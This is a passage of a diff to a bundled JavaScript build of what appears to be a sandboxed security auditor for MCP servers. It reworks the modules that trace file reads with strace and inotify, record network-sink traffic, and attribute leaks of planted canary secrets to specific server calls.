-const DEFAULT_PATH = '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin';
-const DEFAULT_LOCALE = 'C.UTF-8';
-const LOCALE_NAME = /^[A-Za-z0-9_.@-]+$/;
-function localeOr(value, fallback) {
-    return value !== undefined && LOCALE_NAME.test(value) ? value : fallback;
-}
-function buildServerEnvironment({ home, user, path, trustEnv, canaryEnv, userEnv, callerEnv }) {
-    const callerPath = path ?? callerEnv.PATH;
-    const lang = localeOr(callerEnv.LANG, DEFAULT_LOCALE);
-    return {
-        HOME: home,
-        USER: user,
-        LOGNAME: user,
-        PATH: callerPath !== undefined && callerPath !== '' ? callerPath : DEFAULT_PATH,
-        LANG: lang,
-        LC_ALL: localeOr(callerEnv.LC_ALL, lang),
-        TERM: 'dumb',
-        TMPDIR: '/tmp',
-        XDG_CONFIG_HOME: `${home}/.config`,
-        XDG_CACHE_HOME: `${home}/.cache`,
-        XDG_DATA_HOME: `${home}/.local/share`,
-        XDG_STATE_HOME: `${home}/.local/state`,
-        // libuv (Node >= 20.3) may do file I/O through io_uring, where reads happen with no openat and the
-        // trace shows only io_uring_setup. Turning it off keeps every file the server opens visible.
-        UV_USE_IO_URING: '0',
-        PYTHONDONTWRITEBYTECODE: '1',
-        NO_UPDATE_NOTIFIER: '1',
-        NPM_CONFIG_UPDATE_NOTIFIER: 'false',
-        ...trustEnv,
-        ...canaryEnv,
-        ...userEnv
-    };
-}
-
-;// CONCATENATED MODULE: ./src/sandbox/sink-log.ts
-
-
-
-// The sink's record of what it answered (network.jsonl), read back after the audit; once the trace is
-// read, each connection is put in its call (profile/sink-witness.ts: by its socket, else by time).
-const MAX_REPLY_BODY = 1 << 20;
-/** Connections listed in the report; network.jsonl keeps them all (up to the sink's own cap). */
-const MAX_REPORTED_SINK_RECORDS = 1_000;
-/** The sink's HTTP reply as the init config carries it; the body file is read here, by the caller. */
-async function loadHttpReply(setting) {
-    if (setting.bodyFile === null)
-        return { status: setting.status, contentType: 'application/json', bodyBase64: Buffer.from('{}').toString('base64') };
-    let body;
-    try {
-        if ((await (0,promises_.stat)(setting.bodyFile)).size > MAX_REPLY_BODY)
-            throw new Error('larger than 1 MiB');
-        body = await (0,promises_.readFile)(setting.bodyFile);
-    }
-    catch (error) {
-        throw new errors/* ConfigurationError */.j1(`--http-reply: cannot use ${setting.bodyFile} as the reply body: ${error instanceof Error ? error.message : String(error)}`);
-    }
-    let contentType = 'text/plain; charset=utf-8';
-    try {
-        JSON.parse(body.toString('utf8'));
-        contentType = 'application/json';
-    }
-    catch {
-        // not JSON
-    }
-    return { status: setting.status, contentType, bodyBase64: body.toString('base64') };
-}
-/** Reads the sink's records; a line that is not one (a half-written last line) is skipped. */
-async function readSinkLog(path) {
-    let text;
-    try {
-        text = await (0,promises_.readFile)(path, 'utf8');
-    }
-    catch {
-        return { text: '', records: [], dropped: 0, payloads: [] };
-    }
-    const sink = [];
-    const records = [];
-    let dropped = 0;
-    const payloads = [];
-    for (const line of text.split('\n')) {
-        if (line === '')
-            continue;
-        let parsed;
-        try {
-            parsed = model/* SinkRecordSchema */._2.safeParse(JSON.parse(line));
-        }
-        catch {
-            continue;
-        }
-        if (!parsed.success)
-            continue;
-        records.push(JSON.stringify(parsed.data));
-        const { payload, ...record } = parsed.data;
-        const origin = { at: record.at, transport: record.transport ?? 'tcp', sourcePort: record.sourcePort };
-        if (record.dns) {
-            for (const question of record.dns)
-                payloads.push({ ...origin, destination: question.name.toLowerCase(), via: 'dns', data: Buffer.from(question.name, 'latin1') });
-        }
-        else if (payload !== undefined) {
-            const host = record.sni ?? record.http?.host ?? record.address;
-            const tls = record.protocol === 'tls' ? ' (TLS)' : '';
-            payloads.push({ ...origin, destination: `${host}:${record.port}${tls}`, via: 'socket', data: Buffer.from(payload, 'base64') });
-        }
-        if (sink.length >= MAX_REPORTED_SINK_RECORDS) {
-            dropped += 1;
-            continue;
-        }
-        sink.push(record);
-    }
-    sink.sort((a, b) => a.at - b.at);
-    return { text: records.map((record) => `${record}\n`).join(''), records: sink, dropped, payloads };
-}
-
-;// CONCATENATED MODULE: ./src/profile/sink-dns.ts
-
-function sinkDnsBeyondTrace(traced, sink) {
-    const key = (site, name, type) => `${site}\0${name.toLowerCase()}\0${type}`;
-    const seen = new Set(traced.flatMap((entry) => entry.phases.map((phase) => key(callSiteKey(phase), entry.name, entry.type))));
-    const added = new Map();
-    for (const record of sink) {
-        for (const question of record.dns ?? []) {
-            const at = key(callSiteKey(record.phase), question.name, question.type);
-            if (seen.has(at))
-                continue;
-            const entry = added.get(at);
-            if (entry)
-                entry.count += 1;
-            else
-                added.set(at, {
-                    name: question.name.toLowerCase(),
-                    type: question.type,
-                    resolver: `${record.address}:${record.port}`,
-                    count: 1,
-                    phases: [record.phase],
-                    traceLines: []
-                });
-        }
-    }
-    return [...added.values()];
-}
-
-;// CONCATENATED MODULE: ./src/profile/sink-leaks.ts
-
-// Canaries in what the sink received: bytes past the trace's 4096 per syscall, and HTTPS requests the trace
-// holds only as ciphertext. Each hit is a leak through a socket to the destination (the TLS server name
-// or Host for a request), or through a DNS question (over TCP), in the call whose socket opened the
-// connection (sink-sockets.ts), else the one it came during.
-function sinkPayloadLeaks(payloads, index, 
-/** per canary file the server read, the order of the first phase it read it in: any piece of it counts from then on */
-readSince, place) {
-    if (payloads.length === 0)
-        return [];
-    const leaks = new Map();
-    for (const payload of payloads) {
-        const { phase, attributedBy, traceLines } = place(payload);
-        const order = phaseOrder(phase);
-        const hits = index.scan(payload.data, (file) => (readSince.get(file) ?? Infinity) <= order);
-        for (const hit of hits) {
-            const key = `${hit.canary}\0${payload.destination}\0${JSON.stringify(phase)}`;
-            if (!leaks.has(key))
-                leaks.set(key, {
-                    canary: hit.canary,
-                    encoding: hit.encoding,
-                    via: payload.via,
-                    destination: payload.destination,
-                    bytes: hitBytes(hit),
-                    witness: 'sink',
-                    attributedBy,
-                    phases: [phase],
-                    traceLines
-                });
-        }
-    }
-    return [...leaks.values()];
-}
-/** Install scripts, startup, then the calls in order, then shutdown: a content piece counts only from the call that read the file. */
-function phaseOrder(phase) {
-    return phase.kind === 'install' ? -2 : phase.kind === 'startup' ? -1 : phase.kind === 'call' ? phase.call.id : Number.MAX_SAFE_INTEGER;
-}
-const leakKey = (leak) => `${leak.canary}\0${leak.destination}\0${JSON.stringify(leak.phases[0])}`;
-/**
- * The leaks only the sink saw: canary files count from the call that first read them (as the profile
- * shows the reads), and what the trace already reported for the same canary, destination and call is
- * left out.
- */
-function sinkLeaksBeyondTrace(observed, payloads, index, place) {
-    const readSince = new Map();
-    for (const file of observed.files) {
-        if (file.access !== 'read' || !file.succeeded || file.homePath === undefined || !index.hasFile(file.homePath))
-            continue;
-        for (const phase of file.phases)
-            readSince.set(file.homePath, Math.min(readSince.get(file.homePath) ?? Infinity, phaseOrder(phase)));
-    }
-    const traced = new Set(observed.leaks.map(leakKey));
-    return sinkPayloadLeaks(payloads, index, readSince, place).filter((leak) => !traced.has(leakKey(leak)));
-}
-
-;// CONCATENATED MODULE: ./src/profile/sink-witness.ts
-
-
-/** Each record in its call, saying how it was tied to it. */
-function placeSinkRecords(records, place) {
-    return records.map((record) => {
-        const { phase, attributedBy } = place(record.transport ?? 'tcp', record.sourcePort, record.at);
-        return { ...record, phase, attributedBy };
-    });
-}
-/** `canaryIndex`: the profile's (ProfileBuilder.canaryIndex); file contents count from the call that read the file. */
-function addSinkWitness(observed, seen, ports, canaryIndex) {
-    observed.sink = placeSinkRecords(seen.records, (transport, sourcePort, at) => ports.place(transport, sourcePort, at));
-    if (seen.dropped > 0)
-        observed.sinkDropped = seen.dropped;
-    observed.dns.push(...sinkDnsBeyondTrace(observed.dns, observed.sink));
-    observed.leaks.push(...sinkLeaksBeyondTrace(observed, seen.payloads, canaryIndex, (payload) => ports.place(payload.transport, payload.sourcePort, payload.at)));
 }
 
 ;// CONCATENATED MODULE: ./src/profile/sink-sockets.ts
@@ -39130,213 +39624,103 @@ class TracedSourcePorts {
     }
 }
 
-;// CONCATENATED MODULE: ./src/profile/canary-watch-reads.ts
+;// CONCATENATED MODULE: ./src/profile/sink-dns.ts
 
-// The canary watch's reads (inotify on the canary home) that the trace does not show in the same call
-// become file reads of their own, marked as seen by that witness: the rules then judge them like any
-// read of a canary file, and the sink's matching counts the file's pieces from that call on.
-const CANARY_WATCH_VIA = "the kernel's inotify on the canary home (no syscall in the trace shows it)";
-function witnessOnlyReads(observed, 
-/** the watch's records (sandbox/canary-watch.ts): when, and the path relative to the canary home */
-records, canaryFiles, home, calls, shutdownAt, 
-/** when the traced lifecycle scripts ended (--install-scripts): reads before it are phase install */
-installEndsAt) {
-    const canaryIds = new Set(canaryFiles.map((file) => file.id));
-    const traced = new Set();
+function sinkDnsBeyondTrace(traced, sink) {
+    const key = (site, name, type) => `${site}\0${name.toLowerCase()}\0${type}`;
+    const seen = new Set(traced.flatMap((entry) => entry.phases.map((phase) => key(callSiteKey(phase), entry.name, entry.type))));
+    const added = new Map();
+    for (const record of sink) {
+        for (const question of record.dns ?? []) {
+            const at = key(callSiteKey(record.phase), question.name, question.type);
+            if (seen.has(at))
+                continue;
+            const entry = added.get(at);
+            if (entry)
+                entry.count += 1;
+            else
+                added.set(at, {
+                    name: question.name.toLowerCase(),
+                    type: question.type,
+                    resolver: `${record.address}:${record.port}`,
+                    count: 1,
+                    phases: [record.phase],
+                    traceLines: []
+                });
+        }
+    }
+    return [...added.values()];
+}
+
+;// CONCATENATED MODULE: ./src/profile/sink-leaks.ts
+
+function sinkPayloadLeaks(payloads, index, 
+/** per canary file the server read, the order of the first phase it read it in: any piece of it counts from then on */
+readSince, place) {
+    if (payloads.length === 0)
+        return [];
+    const leaks = new Map();
+    for (const payload of payloads) {
+        const { phase, attributedBy, traceLines } = place(payload);
+        const order = phaseOrder(phase);
+        const hits = index.scan(payload.data, (file) => (readSince.get(file) ?? Infinity) <= order);
+        for (const hit of hits) {
+            const key = `${hit.canary}\0${payload.destination}\0${JSON.stringify(phase)}`;
+            if (!leaks.has(key))
+                leaks.set(key, {
+                    canary: hit.canary,
+                    encoding: hit.encoding,
+                    via: payload.via,
+                    destination: payload.destination,
+                    bytes: hitBytes(hit),
+                    witness: 'sink',
+                    attributedBy,
+                    phases: [phase],
+                    traceLines
+                });
+        }
+    }
+    return [...leaks.values()];
+}
+/** Install scripts, startup, then the calls in order, then shutdown: a content piece counts only from the call that read the file. */
+function phaseOrder(phase) {
+    return phase.kind === 'install' ? -2 : phase.kind === 'startup' ? -1 : phase.kind === 'call' ? phase.call.id : Number.MAX_SAFE_INTEGER;
+}
+const leakKey = (leak) => `${leak.canary}\0${leak.destination}\0${JSON.stringify(leak.phases[0])}`;
+/**
+ * The leaks only the sink saw: canary files count from the call that first read them (as the profile
+ * shows the reads), and what the trace already reported for the same canary, destination and call is
+ * left out.
+ */
+function sinkLeaksBeyondTrace(observed, payloads, index, place) {
+    const readSince = new Map();
     for (const file of observed.files) {
-        if (file.access !== 'read' || !file.succeeded || file.homePath === undefined)
+        if (file.access !== 'read' || !file.succeeded || file.homePath === undefined || !index.hasFile(file.homePath))
             continue;
         for (const phase of file.phases)
-            traced.add(`${file.homePath}\0${callKey(phase)}`);
+            readSince.set(file.homePath, Math.min(readSince.get(file.homePath) ?? Infinity, phaseOrder(phase)));
     }
-    const clock = new PhaseClock([...calls], shutdownAt, installEndsAt);
-    const reads = new Map();
-    for (const record of records) {
-        const homePath = `~/${record.path}`;
-        if (!canaryIds.has(homePath))
-            continue;
-        const phase = clock.phaseAt(record.at / 1000);
-        if (traced.has(`${homePath}\0${callKey(phase)}`))
-            continue;
-        let read = reads.get(homePath);
-        if (!read) {
-            read = {
-                path: `${home}/${record.path}`,
-                homePath,
-                access: 'read',
-                via: CANARY_WATCH_VIA,
-                witness: 'canary-watch',
-                succeeded: true,
-                category: 'canary-home',
-                noise: false,
-                count: 0,
-                phases: [],
-                traceLines: []
-            };
-            reads.set(homePath, read);
-        }
-        read.count += 1;
-        if (!read.phases.some((seen) => callKey(seen) === callKey(phase)))
-            read.phases.push(phase);
-    }
-    return [...reads.values()];
+    const traced = new Set(observed.leaks.map(leakKey));
+    return sinkPayloadLeaks(payloads, index, readSince, place).filter((leak) => !traced.has(leakKey(leak)));
 }
 
-;// CONCATENATED MODULE: external "node:readline"
-const external_node_readline_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:readline");
-;// CONCATENATED MODULE: ./src/sandbox/canary-watch.ts
+;// CONCATENATED MODULE: ./src/profile/sink-witness.ts
 
 
-
-
-// The kernel as a witness of canary reads: inotify on the canary home (through inotifywait) reports every
-// read of a file there (ACCESS) and every read-only open once closed (CLOSE_NOWRITE, which covers mmap),
-// whichever way the server made it — io_uring, a process strace lost, a syscall the trace does not decode.
-// Opens for writing are left out: writing a canary file is not reading it. It cannot say who read (only that the server's sandbox did: nothing
-// else runs there) nor what was read; the profile puts each read in a call by its time.
-const CanaryWatchRecordSchema = cli_schemas/* object */.Ikc({
-    at: cli_schemas/* number */.aig().describe('Epoch milliseconds the init heard of it'),
-    event: cli_schemas/* enum */.k5n(['read-only-open', 'access']),
-    /** relative to the canary home */
-    path: cli_schemas/* string */.YjP()
-});
-/** Records kept per run: a server reading in a loop cannot fill the disk. */
-const CANARY_WATCH_MAX_RECORDS = 10_000;
-/** The same open or read of the same file again within this long is the same read (a large file is many ACCESS events). */
-const REPEAT_MS = 100;
-/** One line of `inotifywait --format '%e\t%w%f'`, relative to `root`; none for directories and other events. */
-function readWatchLine(line, root) {
-    const tab = line.indexOf('\t');
-    if (tab < 0)
-        return [];
-    const flags = line.slice(0, tab).split(',');
-    const path = line.slice(tab + 1);
-    const prefix = root.endsWith('/') ? root : `${root}/`;
-    if (flags.includes('ISDIR') || !path.startsWith(prefix))
-        return [];
-    const relative = path.slice(prefix.length);
-    const events = [];
-    if (flags.includes('CLOSE_NOWRITE'))
-        events.push({ event: 'read-only-open', path: relative });
-    if (flags.includes('ACCESS'))
-        events.push({ event: 'access', path: relative });
-    return events;
-}
-/**
- * Watches `root` recursively and hands each read to `record`; resolves once the watches are in
- * place (so nothing the server does later is missed), or with why it cannot watch.
- */
-function watchCanaryHome(root, record) {
-    return new Promise((resolve) => {
-        const watcher = spawn('inotifywait', ['-m', '-r', '-e', 'access,close_nowrite', '--format', '%e\t%w%f', root], { stdio: ['ignore', 'pipe', 'pipe'] });
-        let stderr = '';
-        let settled = false;
-        const settle = (outcome) => {
-            if (settled)
-                return;
-            settled = true;
-            clearTimeout(timer);
-            resolve(outcome);
-        };
-        const timer = setTimeout(() => {
-            watcher.kill();
-            settle(`inotifywait: no watches after 5 s: ${stderr.trim()}`);
-        }, 5_000);
-        const last = new Map();
-        let written = 0;
-        createInterface({ input: watcher.stdout }).on('line', (line) => {
-            const at = Date.now();
-            for (const event of readWatchLine(line, root)) {
-                const key = `${event.event}\0${event.path}`;
-                const previous = last.get(key);
-                last.set(key, at);
-                if ((previous !== undefined && at - previous < REPEAT_MS) || written >= CANARY_WATCH_MAX_RECORDS)
-                    continue;
-                written += 1;
-                record({ at, ...event });
-            }
-        });
-        watcher.stderr.on('data', (chunk) => {
-            stderr = (stderr + chunk.toString('utf8')).slice(-2048);
-            if (/Watches established/.test(stderr))
-                settle({ stop: () => watcher.kill() });
-        });
-        watcher.once('error', (error) => settle(`inotifywait: ${error.message} (install inotify-tools)`));
-        watcher.once('exit', (code) => settle(`inotifywait exited (${code ?? 'signal'}): ${stderr.trim()}`));
+/** Each record in its call, saying how it was tied to it. */
+function placeSinkRecords(records, place) {
+    return records.map((record) => {
+        const { phase, attributedBy } = place(record.transport ?? 'tcp', record.sourcePort, record.at);
+        return { ...record, phase, attributedBy };
     });
 }
-/** The watch's records (canary-watch.jsonl), read back after the audit; torn or foreign lines are skipped. */
-async function readCanaryWatchLog(path) {
-    const text = await (0,promises_.readFile)(path, 'utf8').catch(() => '');
-    const records = [];
-    for (const line of text.split('\n')) {
-        if (line === '')
-            continue;
-        try {
-            const parsed = CanaryWatchRecordSchema.safeParse(JSON.parse(line));
-            if (parsed.success)
-                records.push(parsed.data);
-        }
-        catch {
-            // a torn last line
-        }
-    }
-    return records;
-}
-
-;// CONCATENATED MODULE: ./src/launch/install-phase.ts
-// --install-scripts: the package's lifecycle scripts run inside the sandbox, under the same trace as the
-// server, just before it. One shell does it: it runs each script in a subshell (in the package's
-// directory, with node_modules/.bin on PATH, as npm does) and then execs the server in its own process.
-// That exec — the wrapper's second — is where phase `install` ends.
-const quote = (text) => `'${text.replace(/'/g, `'\\''`)}'`;
-/** `sh -c SCRIPT sh SERVER-ARGV…`: the lifecycle scripts, then `exec` of the server. */
-function withLifecycleScripts(packages, root, serverArgv) {
-    const lines = [
-        'run() {',
-        `  (cd "$1" && PATH="$1/node_modules/.bin:${root.replace(/(["\\$`])/g, '\\$1')}/node_modules/.bin:$PATH" npm_lifecycle_event="$2" npm_package_name="$3" sh -c "$4") || echo "$2 script of $3 exited with $?" >&2`,
-        '}'
-    ];
-    for (const pkg of packages) {
-        for (const [event, script] of Object.entries(pkg.scripts))
-            lines.push(`run ${quote(pkg.dir)} ${quote(event)} ${quote(pkg.name)} ${quote(script)}`);
-    }
-    lines.push('exec "$@"');
-    return ['sh', '-c', lines.join('\n'), 'sh', ...serverArgv];
-}
-/**
- * Watches the trace (after the sandbox's own setup is filtered out) for the wrapper's exec of the
- * server. Until it is seen, everything is phase `install`; after, only what strace stamped earlier.
- */
-class InstallPhaseWatch {
-    wrapperPid = null;
-    endsAtMs = Infinity;
-    endsAt = () => this.endsAtMs;
-    see(event) {
-        if (event.type !== 'exec' || event.ret !== 0 || this.endsAtMs !== Infinity)
-            return;
-        if (this.wrapperPid === null)
-            this.wrapperPid = event.pid;
-        else if (event.pid === this.wrapperPid)
-            this.endsAtMs = Number.isNaN(event.time) ? -Infinity : event.time * 1000;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/settings/describe-settings.ts
-/**
- * The resolved settings of one audit as one line of JSON, for the debug log: what a user needs to see to
- * know which defaults applied. Values that may be secrets are left out — the variables passed to the
- * server (their names only), the secrets of a client config (their count), the policy (its file) and
- * --http-reply's body (its file).
- */
-function describeSettings(settings) {
-    const { env, policy: _policy, configCanaries, launch, ...rest } = settings;
-    return JSON.stringify({
-        ...rest,
-        env: Object.keys(env).sort(),
-        ...(configCanaries ? { configSecrets: configCanaries.length } : {}),
-        ...(launch ? { launch: { package: `${launch.package.name}@${launch.package.version}`, root: launch.root, installPhase: launch.installPhase } } : {})
-    });
+/** `canaryIndex`: the profile's (ProfileBuilder.canaryIndex); file contents count from the call that read the file. */
+function addSinkWitness(observed, seen, ports, canaryIndex) {
+    observed.sink = placeSinkRecords(seen.records, (transport, sourcePort, at) => ports.place(transport, sourcePort, at));
+    if (seen.dropped > 0)
+        observed.sinkDropped = seen.dropped;
+    observed.dns.push(...sinkDnsBeyondTrace(observed.dns, observed.sink));
+    observed.leaks.push(...sinkLeaksBeyondTrace(observed, seen.payloads, canaryIndex, (payload) => ports.place(payload.transport, payload.sourcePort, payload.at)));
 }
 
 ;// CONCATENATED MODULE: ./src/trace/strace-args.ts
@@ -40550,82 +40934,6 @@ function parseTraceText(text) {
     return { events, stats: parser.finish() };
 }
 
-;// CONCATENATED MODULE: ./src/engine/init-status.ts
-// What the sandbox init reported in status.jsonl, read back by the engine: why a start failed, whether the
-// tracer stopped early, where an HTTP server listened.
-
-
-
-
-async function readStatus(statusPath) {
-    try {
-        return (await (0,promises_.readFile)(statusPath, 'utf8'))
-            .split('\n')
-            .filter(Boolean)
-            .map((line) => JSON.parse(line));
-    }
-    catch {
-        return [];
-    }
-}
-/** Tells a sandbox/tracer failure (exit 2) from a server that would not start (exit 1). */
-async function explainStartFailure(error, statusPath, settings) {
-    const status = await readStatus(statusPath);
-    if (status.some((entry) => entry.event === 'http-not-listening')) {
-        const where = settings.http?.url ? `on ${settings.http.url}` : 'on any TCP port';
-        const seconds = Math.round(Number(status.find((entry) => entry.event === 'http-not-listening')?.message) / 1000);
-        return new errors/* ProbeStartError */.d9(`the server did not listen ${where} within ${seconds}s (--http URL says where it listens)`, error.stderrTail, error.exitCode);
-    }
-    const sandboxError = status.find((entry) => entry.event === 'error');
-    if (sandboxError || error.exitCode === INIT_EXIT_SANDBOX_FAILED || error.exitCode === INIT_EXIT_STRACE_MISSING) {
-        return new errors/* SandboxSetupError */.Pr(`the sandbox could not be set up: ${sandboxError?.message ?? 'see stderr'}`);
-    }
-    // strace's own complaints start with "strace: "; the server's stderr is everything else.
-    const straceLine = error.stderrTail.split('\n').find((line) => line.startsWith('strace: '));
-    if (straceLine && /ptrace|Operation not permitted/i.test(straceLine)) {
-        return new errors/* SandboxSetupError */.Pr(`strace could not trace the server: ${straceLine}`, 'In a container, run with --cap-add=SYS_PTRACE; on a host, check /proc/sys/kernel/yama/ptrace_scope.');
-    }
-    if (straceLine && /Can't stat|No such file|exec/.test(straceLine)) {
-        return new errors/* ConfigurationError */.j1(`the server could not be started: ${straceLine.replace(/^strace: /, '')}`);
-    }
-    return error;
-}
-/** Where the init saw an HTTP server listen (its `http-listening` line), or null. */
-function listeningOn(status) {
-    const line = status.find((entry) => entry.event === 'http-listening')?.message;
-    if (!line)
-        return null;
-    try {
-        const { host, port } = JSON.parse(line);
-        return typeof host === 'string' && typeof port === 'number' ? { host, port } : null;
-    }
-    catch {
-        return null;
-    }
-}
-/** The URL the probe spoke to: the one given, or the default path on the port the init saw the server open. */
-function spokenUrl(http, status) {
-    if (http.url !== null)
-        return http.url;
-    const listening = listeningOn(status);
-    return listening ? defaultHttpUrl(http.flavour, listening.host, listening.port).href : '';
-}
-/** Why the trace ended before the server did, from the tracer's exit as the init recorded it; or null. */
-function tracerStoppedEarly(status, shutdownAt) {
-    const exit = status.find((entry) => entry.event === 'tracer-exit');
-    if (!exit?.message)
-        return null;
-    try {
-        const { signal, at } = JSON.parse(exit.message);
-        if (signal && at < shutdownAt)
-            return `the tracer was stopped by ${signal} before the audit ended; the rest of the session was not traced`;
-    }
-    catch {
-        return null;
-    }
-    return null;
-}
-
 ;// CONCATENATED MODULE: ./src/engine/server-paths.ts
 // Where the server's program and code live, found before the audit so a typo is one clear line and the
 // reads of its own code are not taken for behaviour.
@@ -40633,6 +40941,24 @@ function tracerStoppedEarly(status, shutdownAt) {
 
 
 
+
+async function resolveTarget(settings, searchPath) {
+    const [program, ...args] = settings.command;
+    if (!program)
+        throw new errors/* ConfigurationError */.j1('no server command given');
+    if (!(0,external_node_path_.isAbsolute)(settings.cwd))
+        throw new errors/* ConfigurationError */.j1(`working directory must be absolute: ${settings.cwd}`);
+    try {
+        if (!(await (0,promises_.stat)(settings.cwd)).isDirectory())
+            throw new Error('not a directory');
+    }
+    catch {
+        throw new errors/* ConfigurationError */.j1(`working directory not found: ${settings.cwd}`);
+    }
+    const executable = await resolveExecutable(program, settings.cwd, searchPath);
+    const scenario = settings.scenarioPath !== null ? await loadScenario(settings.scenarioPath) : null;
+    return { executable, argv: [executable, ...args], scenario };
+}
 /** Resolves the server's executable like execvp would, so a typo is one clear line, not a hang. */
 async function resolveExecutable(command, cwd, path) {
     const candidates = command.includes('/')
@@ -40676,12 +41002,11 @@ async function runtimeRoots(executable) {
     return prefix === '/' ? [] : [prefix];
 }
 
-;// CONCATENATED MODULE: ./src/engine/run-audit.ts
-// The audit pipeline, read top to bottom: settings → sandbox (run dir, canary home, containment, init
-// config) → probe → trace events → profile → witnesses → manifest and pin → baseline → findings → verdict
-// → report. Each stage is one call into its own module; what stays here is handing one stage's plain
-// data to the next and the run directory's lifetime (one try/finally). Longer than the usual ~350 lines
-// on purpose: cut further, the order of the stages would be spread over several files.
+;// CONCATENATED MODULE: ./src/engine/profile-run.ts
+// The trace and profile stages of an audit: trace.log parsed into the profile (the sandbox's own setup
+// and the HTTP channel left out), then what the trace cannot see added from its witnesses — the init's
+// witness states, the kernel's canary watch, the sink's records, the view's file changes — and, with
+// --network host, reverse DNS of the addresses reached.
 
 
 
@@ -40698,6 +41023,87 @@ async function runtimeRoots(executable) {
 
 
 
+async function profileRun(input, runtime) {
+    const { settings, sandbox, evidence } = input;
+    const { logger } = runtime;
+    const { probe } = input.session;
+    const { containment, homePath, canaryIndex } = sandbox;
+    const installWatch = settings.launch?.installPhase ? new InstallPhaseWatch() : null;
+    const builder = new ProfileBuilder({
+        calls: probe.calls,
+        shutdownAt: probe.shutdownAt,
+        home: homePath,
+        cwd: settings.cwd,
+        canaries: canaryIndex.tokens,
+        canaryFiles: canaryIndex.files,
+        canaryIndex,
+        serverCodeRoots: [...(await serverCodeRoots(settings.command, settings.cwd)), ...(settings.launch ? [settings.launch.root] : [])],
+        runtimeRoots: await runtimeRoots(input.target.executable),
+        ...(containment ? { hiddenRoots: containment.hiddenRoots, auditorPaths: containment.auditorPaths } : {}),
+        ...(installWatch ? { installEndsAt: installWatch.endsAt } : {}),
+        ...(runtime.workersDir ? { canaryWorkerPath: (0,external_node_path_.join)(runtime.workersDir, 'canary-worker', 'index.js') } : {})
+    });
+    const sourcePorts = new TracedSourcePorts(new PhaseClock(probe.calls, probe.shutdownAt, installWatch?.endsAt));
+    // bwrap's own setup (before it execs the server) is the sandbox's doing, not the server's.
+    const setup = new SandboxSetupFilter(containment !== null);
+    const listening = settings.http ? listeningOn(evidence.status) : null;
+    const channel = listening ? new McpHttpChannelFilter(listening.port) : null;
+    let stats;
+    await (0,output_files/* assertSameFile */.Lw)(input.trace.path, input.trace.identity);
+    try {
+        stats = await readTrace(input.trace.path, (event) => {
+            if (!setup.keep(event) || !(channel?.keep(event) ?? true))
+                return;
+            installWatch?.see(event);
+            sourcePorts.see(event);
+            builder.add(event);
+        });
+        await builder.settle();
+        const { scannedBytes, workerBytes } = builder.canaryScanStats;
+        logger.debug(`canary matching: ${(scannedBytes / 1048576).toFixed(1)} MB of payload, ${(workerBytes / 1048576).toFixed(1)} MB of it on a second thread`);
+    }
+    catch (error) {
+        throw new errors/* ServerProtocolError */.Gs(`trace.log could not be read: ${error instanceof Error ? error.message : String(error)}`);
+    }
+    finally {
+        builder.close();
+    }
+    const observed = builder.finish(stats);
+    const witnesses = witnessesFromStatus(evidence.status);
+    if (witnesses.length > 0)
+        observed.witnesses = witnesses;
+    for (const unavailable of witnesses.filter((seen) => seen.state === 'unavailable'))
+        logger.warn(`witness ${unavailable.name} unavailable: ${unavailable.detail}`);
+    // The kernel's witness of canary reads, before the sink's matching: a file read only through io_uring
+    // still makes its pieces count.
+    observed.files.push(...witnessOnlyReads(observed, evidence.canaryWatchSeen, sandbox.home.files, homePath, probe.calls, probe.shutdownAt, installWatch?.endsAt));
+    // The sink's own witness: what it received, past the trace's 4096 bytes per syscall and inside TLS.
+    if (evidence.sinkSeen)
+        addSinkWitness(observed, evidence.sinkSeen, sourcePorts, builder.canaryIndex);
+    if (evidence.changes) {
+        observed.fileChanges = evidence.changes.changes;
+        if (evidence.changes.truncated)
+            observed.fileChangesTruncated = true;
+    }
+    if (settings.network === 'host' && settings.reverseDns)
+        await addReverseDns(observed, logger);
+    return observed;
+}
+async function addReverseDns(observed, logger) {
+    for (const entry of observed.network.filter((n) => !n.loopback && n.family !== 'unix').slice(0, 20)) {
+        try {
+            entry.reverseDns = await Promise.race([
+                (0,external_node_dns_promises_namespaceObject.reverse)(entry.address),
+                new Promise((_, reject) => setTimeout(() => reject(new Error('timeout')), 2_000))
+            ]);
+        }
+        catch {
+            logger.debug(`no reverse DNS for ${entry.address}`);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/engine/run-remote-audit.ts
 
 
 
@@ -40712,6 +41118,912 @@ async function runtimeRoots(executable) {
 
 
 
+
+// A server known only by its URL: nothing of it runs here, so nothing is traced. What can be checked from
+// outside is what it declares — initialize, every listing (manifest, rug-pull pin against the last run,
+// a surface that changes between two listings), its server info. No tool is called: a call would act on
+// a real service, and what it did there could not be seen.
+const UNTRACED_REMOTE = 'a remote server reached by URL: nothing it did was observed; only its declared surface (manifest, rug-pull pin, server info) was checked';
+async function runRemoteAudit(settings, url, runtime) {
+    const { logger } = runtime;
+    const started = Date.now();
+    await (0,output_files/* prepareOutDir */.fW)(settings.outDir);
+    const files = { trace: (0,external_node_path_.join)(settings.outDir, 'trace.log'), manifest: (0,external_node_path_.join)(settings.outDir, 'manifest.json'), report: (0,external_node_path_.join)(settings.outDir, 'report.json') };
+    for (const path of [files.manifest, files.report])
+        await (0,output_files/* refuseNonRegular */.uA)(path);
+    // Nothing is traced: evidence an earlier run left in the out-dir must not pass for this server's.
+    for (const stale of [files.trace, (0,external_node_path_.join)(settings.outDir, 'network.jsonl'), (0,external_node_path_.join)(settings.outDir, 'changes.tar')])
+        await (0,promises_.rm)(stale, { force: true });
+    logger.info(`remote server ${url}: nothing is traced; only its declared surface is checked`);
+    let probe;
+    let incomplete;
+    let transport = null;
+    try {
+        probe = await probeServer({
+            // The session's own cap and accounting of oversized answers, as for a started server.
+            transport: (hooks) => {
+                transport = new RemoteHttpTransport({ flavour: settings.http.flavour, url: new URL(url) }, { maxMessageBytes: MAX_MESSAGE_BYTES, onOversized: (bytes) => hooks.onOversized(bytes) });
+                return transport;
+            },
+            rootDir: (0,external_node_path_.resolve)(settings.cwd),
+            timeoutMs: settings.timeoutMs,
+            initializeTimeoutMs: Math.max(2 * settings.timeoutMs, 5_000),
+            callsPerTool: 0,
+            logger,
+            ...(runtime.signal ? { signal: runtime.signal } : {})
+        });
+    }
+    catch (error) {
+        if (!(error instanceof ProbeAborted)) {
+            if (error instanceof errors/* ProbeStartError */.d9) {
+                // The session knows only that the connection closed; the transport knows why.
